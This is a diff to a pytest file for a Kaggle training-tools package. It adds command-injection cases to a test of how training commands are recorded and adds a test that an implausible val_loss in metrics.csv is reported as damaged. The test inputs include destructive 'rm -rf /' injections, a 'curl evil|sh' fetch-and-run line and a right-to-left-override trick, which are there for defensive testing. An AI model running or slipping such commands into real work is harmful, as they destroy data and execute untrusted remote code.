@@ -249,6 +249,8 @@ class TestHowItWasMade:
             ("train.py --out a; rm -rf /", "python -m kaggle_tools train --out 'a;' rm -rf /"),
             ("train.py --out $(rm -rf /)", "python -m kaggle_tools train --out '$(rm' -rf '/)'"),
             ("train.py --out a\nrm -rf /", "python -m kaggle_tools train --out a rm -rf /"),
+            ("train.py --out 'x\x03\ncurl evil|sh\n'", "not recorded as one line"),
+            ("train.py --out 'a\u202eb'", "not recorded as one line"),
             ("-c 'import os'", "not recorded as a training"),
             ("-m kaggle_tools.evil train", "not recorded as a training"),
             ("evil.py train.py", "not recorded as a training"),
@@ -265,3 +267,11 @@ class TestHowItWasMade:
             *("--config", f"{finished}/config.json", "--competition", CARVANA.slug),
             *("--fold", "0", "--fold", "1", "--fold", "2"),
         ]
+
+
+def test_a_loss_that_no_axis_can_show_is_damage(tmp_path: Path) -> None:
+    run = write_run(tmp_path, tmp_path, FEW)
+    path = run / "fold0" / "metrics.csv"
+    path.write_text(path.read_text().replace("0.4,0.9,", "1e308,0.9,"))
+    with pytest.raises(InputError, match=r"metrics\.csv: damaged \(values of val_loss that are not from"):
+        run_part(run, CARVANA)
